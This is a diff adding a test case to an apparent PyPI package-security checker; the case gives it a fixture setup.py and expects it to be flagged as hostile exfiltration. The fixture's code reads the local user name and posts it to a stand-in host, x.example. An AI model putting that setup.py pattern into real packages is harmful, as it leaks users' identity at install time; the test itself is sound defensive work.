@@ -1,4 +1,4 @@
-import check, { SDIST_ONLY_SCORE } from '../../src/checks/wheels-published.js';
+import check, { HOSTILE_BUILD_CAP, SDIST_ONLY_SCORE } from '../../src/checks/wheels-published.js';
 import type { PypiFile } from '../../src/evidence/schema.js';
 import { pypiEvidence } from '../support/pypi-evidence.js';
 import { checkTable, outcomeOf } from './check-table.js';
@@ -75,6 +75,14 @@ checkTable(check, [
     score: 10,
     messageId: 'sdist-suspicious',
     data: { flags: ['exec-decoded'] },
+  },
+  {
+    name: 'sdist only, its setup.py posts the user and host names (data followed through a variable)',
+    evidence: pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable: null, files: [{ path: 'setup.py', text: "import getpass, requests\nwho = {'u': getpass.getuser()}\nrequests.post('https://x.example/c', json=who)\nsetup(name='x')\n", truncated: false }] } } }),
+    score: 0,
+    messageId: 'sdist-hostile',
+    data: { flags: ['exfiltration'], flowFlags: ['exfiltration'], patternFlags: [] },
+    caps: [{ id: 'install-code', limit: HOSTILE_BUILD_CAP, reason: expect.any(String) }],
   },
 ]);
 
